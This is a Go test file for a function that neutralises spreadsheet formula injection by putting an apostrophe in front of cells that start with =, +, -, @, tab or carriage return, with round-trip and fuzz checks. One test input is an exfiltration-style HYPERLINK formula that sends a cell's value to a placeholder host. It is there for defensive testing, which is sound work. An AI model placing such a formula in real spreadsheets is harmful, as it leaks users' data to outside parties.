package safetext

import (
	"strings"
	"testing"
)

func TestForSpreadsheetLeadsFormulasWithAnApostrophe(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://x/?"&A1,"klik")`, `'=HYPERLINK("http://x/?"&A1,"klik")`},
		{"+62 21 555", "'+62 21 555"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"Kepala Biro Umum", "Kepala Biro Umum"},
		{"a=b", "a=b"},
		{" =1", " =1"},
		{"'quoted", "'quoted"},
		{"", ""},
	} {
		if got := ForSpreadsheet(tc.in); got != tc.want {
			t.Errorf("ForSpreadsheet(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestFromSpreadsheetReadsBackWhatWasWritten(t *testing.T) {
	for _, s := range []string{"=1+1", "@x", "-", "'", "''=1", "'quoted", "Biro Umum", "", "'=already led"} {
		if got := FromSpreadsheet(ForSpreadsheet(s)); got != s {
			t.Errorf("FromSpreadsheet(ForSpreadsheet(%q)) = %q", s, got)
		}
	}
	// A cell someone led by hand reads as the text they meant.
	if got := FromSpreadsheet("'=1+1"); got != "=1+1" {
		t.Errorf("FromSpreadsheet(%q) = %q, want =1+1", "'=1+1", got)
	}
}

// FuzzSpreadsheet: whatever the text, the cell written never begins as a
// formula and reads back as the text.
func FuzzSpreadsheet(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "''", "-", "Biro", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := ForSpreadsheet(s)
		if cell != "" && strings.IndexByte(formulaStarts, cell[0]) >= 0 {
			t.Errorf("ForSpreadsheet(%q) = %q begins as a formula", s, cell)
		}
		if got := FromSpreadsheet(cell); got != s {
			t.Errorf("FromSpreadsheet(ForSpreadsheet(%q)) = %q", s, got)
		}
	})
}
